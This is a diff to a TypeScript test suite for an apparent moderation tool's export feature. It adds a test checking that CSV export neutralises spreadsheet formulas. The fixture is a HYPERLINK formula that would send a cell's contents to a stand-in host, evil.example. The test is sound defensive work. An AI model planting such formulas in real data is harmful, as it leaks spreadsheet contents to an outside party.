@@ -160,7 +160,8 @@ describe('audit verify', () => {
   });
 });
 
-// 12 posts from beforeAll and one submitted over the API in the audit tests: 13 items.
+// 12 posts from beforeAll and one submitted over the API in the audit tests: 13 items (14 after the
+// formula test adds one).
 describe('exports', () => {
   it('writes every item as JSONL with scores, evidence, review state and decisions', async () => {
     const out = path.join(tempDir(), 'package.jsonl');
@@ -190,15 +191,24 @@ describe('exports', () => {
     expect(rows.find((x) => x.id === 'au-002')!.review_state).toBe('rejected');
   });
 
+  it('defuses CSV cells a spreadsheet would run as formulas, and keeps them exact in JSONL', async () => {
+    const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
+    await call(srv.url, createKey(rt, 'ingest'), 'POST', '/api/items', [{ id: 'au-formula', text: formula }]);
+    const csv = parse((await cli(['export', '--format', 'csv'], db)).stdout, { columns: true }) as Record<string, string>[];
+    expect(csv.find((x) => x.id === 'au-formula')!.text).toBe(`'${formula}`);
+    const jsonl = (await cli(['export'], db)).stdout.trim().split('\n').map((l) => JSON.parse(l) as { id: string; text: string });
+    expect(jsonl.find((x) => x.id === 'au-formula')!.text).toBe(formula);
+  });
+
   it('serves exports over HTTP to moderators, not to viewers, and audits them', async () => {
     const m = createKey(rt, 'moderator');
     const res = await fetch(`${srv.url}/api/export?format=csv`, { headers: { authorization: `Bearer ${m}` } });
     expect(res.status).toBe(200);
     expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
     expect(res.headers.get('content-disposition')).toMatch(/attachment; filename="rabat-triage-export-.*\.csv"/);
-    expect((parse(await res.text(), { columns: true }) as unknown[]).length).toBe(13);
+    expect((parse(await res.text(), { columns: true }) as unknown[]).length).toBe(14);
     const jsonl = await fetch(`${srv.url}/api/export`, { headers: { authorization: `Bearer ${m}` } });
-    expect((await jsonl.text()).trim().split('\n')).toHaveLength(13);
+    expect((await jsonl.text()).trim().split('\n')).toHaveLength(14);
     expect((await call(srv.url, createKey(rt, 'viewer'), 'GET', '/api/export?format=csv')).status).toBe(403);
     expect((await call(srv.url, m, 'GET', '/api/export?format=xml')).status).toBe(400);
     const exports = rt.db!.prepare("SELECT COUNT(*) AS n FROM audit_log WHERE action = 'export'").get() as { n: number };
